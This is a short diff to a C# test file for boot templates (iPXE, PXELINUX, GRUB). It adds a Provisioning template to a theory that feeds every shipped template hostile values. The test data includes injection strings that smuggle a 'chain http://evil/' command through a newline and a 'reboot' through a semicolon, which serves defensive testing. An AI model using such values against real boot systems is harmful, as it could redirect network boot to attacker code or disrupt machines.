@@ -16,7 +16,7 @@ public sealed class TemplateSafetyTests : IDisposable
     public static TheoryData<string, string> ShippedTemplatesAndHostileValues()
     {
         var data = new TheoryData<string, string>();
-        foreach (var template in new[] { BootTemplates.Hardware, BootTemplates.Storage, BootTemplates.Instance, BootTemplates.Router, BootTemplates.Discovery, BootTemplates.Error, BootTemplates.Pxelinux, BootTemplates.Grub })
+        foreach (var template in new[] { BootTemplates.Hardware, BootTemplates.Storage, BootTemplates.Instance, BootTemplates.Router, BootTemplates.Discovery, BootTemplates.Provisioning, BootTemplates.Error, BootTemplates.Pxelinux, BootTemplates.Grub })
         {
             data.Add(template, "x\nchain http://evil/");
             data.Add(template, "a;reboot");
